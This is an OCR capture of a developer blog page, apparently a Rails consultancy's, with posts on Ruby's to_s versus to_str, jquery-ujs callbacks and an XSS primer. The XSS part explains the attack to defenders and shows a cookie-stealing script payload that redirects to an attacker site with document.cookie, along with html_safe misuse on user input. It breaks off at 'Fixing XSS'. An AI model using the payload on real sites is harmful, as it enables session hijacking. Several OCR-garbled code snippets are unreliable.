San Francisco, USA

5214F Diamond Heights Blvd #553
San Francisco, CA 94131

Pune, India

203, Jewel Towers, 2nd Floor
Lane Number 5, Koregaon Park
Pune 411001, India

301 - 275 - 3997

to_str in rubyFollowing code was tested with ruby 1.9.3 .

All objects have to_s method

to_s method is define in Object class and hence all ruby objects have method to_s.

Certain methods alwayscall to_s method. For example when we do string interpolation then to_s method is called. puts invokes to_s method too.

class Lab
 def to_s
 def to_str

l =
puts "#{l}" #=> to_s
puts l #=> to_s

to_s is simply the string representation of the object.

Before we look at to_str let’s see a case where ruby raises error.e ='not sufficient fund')

# case 1
puts e

# case 2
puts "notice: #{e}"

# case 3
puts "Notice: " + e

Here is the result

not sufficient fund
Notice: not sufficient fund
`+': can't convert Exception into String (TypeError)

In the first two cases the to_s method of object e was printed.

However in case ‘3’ ruby raised an error.Let’s read the error message again.

`+': can't convert Exception into String (TypeError)

In this case on the left hand side we have a string object. To this string object we are trying to add object e. Ruby could have called to_s method on e and could have produced the result. But ruby refused to do so.

Ruby refused todo so because it found that the object we are trying to add to string is not of type String. When we call to_s we get the string representation of the string. But the object might or might not be behaving like a string.

Here we are not looking for the string representation of e. What we want is for e to behave a like string. And that is where to_str comes in picture. I have a few more examples to clear this thing so hang in there.

What is to_str

If an object implements to_str method then it is telling the world that my class might not be String but for all practical purposes treat me like a string.

So if we want to make exception object behave like a string then we can add to_str method to it like this.

e ='not sufficient fund')

def e.to_str

puts "Notice: " + e #=> Notice: not sufficient fund

Now when we run the code we do not get any exception.

What would happen if Fixnum has to_str method

Here is an example where ruby raises exception.

i = 10
puts '7' + i #=> can't convert Fixnum into String (TypeError)

Here Ruby is saying that Fixnum is not like a string and it should not be added to String.

We can make Fixnum to behave like a string by adding a to_str method.

class Fixnum
  def to_str
i = 10
puts '7' + i #=> 710

The practical usage of this example can be seen here.

irb(main):002:0>["hello", "world"].join(1)
TypeError: no implicit conversion of Fixnum into String

In the above case ruby is refusing to invoke to_s on “1” because it knows that adding “1” to a string does not feel right.

However we can add method to_str to Fixnum as shown in the last section and then we will not get any error. In this case the result will be as shown below.

irb(main):008:0> ["hello", "world"].join(1)
=> "hello1world"

A real practical example of defining to_str

I tweeted about a quick lesson in to_s vs to_str and a few people asked me to expand on that. Lets see what is happening here.

Before the refactoring was done Path is a subclass of String. So it is String and it has all the methods of a string.

As part of refactoring Path is no longer extending from String. However for all practical purposes it acts like a string. This line is important and I am going to repeat it. For all practical purposes Path here is like a String.

Here we are not talking about the string representation of Path. Here Path is so close to String that practically it can be replaced for a string.

So in order to be like a String class Path should have to_str method and that’s exactly what was done as part of refactoring.

During discussion with my friends someone suggested instead of defining to_str tenderlove could have just defined to_s and the result would have been same.

Yes the result would be samewhether you have defined to_s or to_str if you doing puts.


However in the following case just defining to_s will cause error. Only by having to_str following case will work.

puts 'hello ' +'world')So the difference between defining to_s and to_str is not just what you see in the output.


If a class defines to_str then that class is telling the world that although my class is not String you can treat me like a String.

jquery-ujs and jquery trigger

Let’s see how to make AJAX call using jquery.

jQuery’s ajax method’s success callback function takes three parameters. Here is the api .

success(data, textStatus, jqXHR)

So if you are making ajax call using jQuery the code might look likeurl: 'ajax/test.html',
  success: function(data, textStatus, jqXHR) {

ajax using jquery-ujs

If you are using Rails and jquery-ujs then you might have code like this

<a href="/users/1" data-remote="true" data-type="json">Show</a>
$('a').bind('ajax:success', function(data, status, xhr) {

Above code will not work. In order to make it work the very first element passed to the callback must be an event object. Here is the code that will work.$('a').bind('ajax:success', function(event, data, status, xhr) {

Remember that jQuery api says that the first parameter should be “data” then why we need to pass event object to make it work.

Why event object is needed

Here is snippet from jquery-ujs code

success: function(data, status, xhr) {
  element.trigger('ajax:success', [data, status, xhr]);

The thing about trigger method is thatthe event object is always passed as the first parameter to the event handler. This is why when you are using jquery-ujs you have to have the first parameter in the callback function an event object.

XSS and Rails

XSS is consistently a top web application security risk as per The Open Web Application Security Project (OWASP) .

XSS vulnerability allows hacker to execute JavaScript code that hacker has put in.

Most web applications has a form. User enters <script>alert(document.cookie)</script> in address field and hits submit. If user sees a JavaScript alert then it means user can execute the JavaScript code that user has put in. It means site has XSS vulnerability.

Almost all modern web applications have some JavaScript code. And the application executes JavaScript code. So running JavaScript code is not an issue. The issue is that in this case hacker is able to put in JavaScript code and then hacker is able to run that code. No one should be allowed to put their JavaScript code into the application.

If a hacker can execute JavaScript codethen the hacker can see some other persons’ cookie. Later we will see how hacker can do that.

If you are logged into an application then that application sets a cookie. That is how the application knows that you are logged in.

If a hacker can see someone else’s cookie then the hacker can log in as that person by stealing cookie.

Having SSL does not protect site from XSS vulnerability.

XSS stands for Cross-site scripting. It is a very misleading name because XSS has absolutely nothing to do with cross-site. It has everything to do with a site, any site.

A practical example

It is very common to display address in a formatted way. Usually the code is something like this.

array = [name, address1, address2, city_name, state_name, zip, country_name]
array.compact.join('<br />')

When developer looks at the html page developer will see something like this.


<br /> tag is literally shown on the screen. Developer looks at the html markup rendered by Rails and it looks like this


So the developer comes back to code and marks the string html_safe as shown below.

array = [name, address1, address2, city_name, state_name, zip, country_name]
array.compact.join('<br />').html_safe

Now the browser renders the address with proper <br /> tag and the address looks nicely formatted as shown below.The developer is happy and the developer moves on.

However notice that developer has marked user input data like address1 as html_safe and that’s dangerous.

Hacker in action

The application has a number of users and everything isrunning smoothly. All the users are seeing properly formatted address. And then one day a hacker tried to hack the site. The hacker puts in address1 as <script>alert(document.cookie)</script>.

Now the hacker will see a JavaScript alert which might look like this.


If we look at the html markup then the html might look like this.

JohnSmith<br /><script>alert(document.cookie)</script><br />Suite #110
<br />Miami<br />FL<br />33027<br />USA

Hacker had put in <script> and the application sent that code to browser. Browser did its job. It executed the JavaScript code and in the process hacker is able to see the cookie.

How would hacker steal someoneelse’s information.

Let’s say that an application has a comment form. In the comment form hacker puts in comment as following.

<script>window.location=''+document.cookie </script>

Next day another user,Mary, comes to the site and logs in. She is reading the same post and that post has a lot of comments and one of the comments is comment posted by the hacker.

The application loads all the comments including the comment posted by the hacker.

When browser sees JavaScript code then browser executes it. And now Mary’s cookie information has been sent to hacker-site and Mary is not even aware of it.

This is a classic case of XSS attack and this is how hacker can next timelogin as Mary just by using her cookie information.

Fixing XSS

Now that we know how hacker might be able to execute JavaScript code on our application question is how do we prevent it.

